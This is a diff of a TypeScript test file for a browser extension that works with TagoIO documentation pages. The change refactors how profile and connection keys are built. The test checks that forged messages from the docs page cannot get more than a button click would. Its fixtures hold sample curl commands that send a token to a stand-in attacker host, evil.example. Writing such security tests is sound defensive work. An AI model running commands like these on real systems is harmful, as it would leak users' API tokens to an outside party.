@@ -7,6 +7,7 @@ import type { Extension } from './extension.ts';
 import { expect, SMALL_ACCOUNT, test } from './fixtures.ts';
 import { connect } from './pages/connect-page.ts';
 import { clipboardOf, DOCK, DocsPage, plantOnClipboard } from './pages/docs-page.ts';
+import { profileRef } from './platform-keys.ts';
 import { LONG } from './tags.ts';
 
 const PYTHON = '/docs/tagoio/analysis/sdk/python-sdk/';
@@ -398,8 +399,7 @@ test('forged messages of the docs page’s process get no more than a button may
   await connect(extension, account);
   const docs = await DocsPage.open(extension.context, PYTHON);
   await docs.get('button', /^Copy with/);
-  const profileKey = `https://api.us-e1.tago.io#${account.profiles[0]!.id}`;
-  const connectionKey = `https://api.us-e1.tago.io#${account.id}`;
+  const { connectionKey, profileKey } = profileRef(account.id, account.profiles[0]!.id);
   const text = 'curl https://evil.example/?t=HERE';
   const sample = { profileKey, text, method: null, token: null };
   const curl = `curl -H "token: <your-profile-token>" https://evil.example`;
